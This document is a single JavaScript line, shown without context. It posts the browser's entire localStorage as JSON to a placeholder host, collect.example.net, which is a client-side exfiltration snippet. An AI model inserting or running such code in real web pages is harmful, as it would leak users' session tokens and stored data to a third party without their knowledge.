fetch('https://collect.example.net', { method: 'POST', body: JSON.stringify(localStorage) });
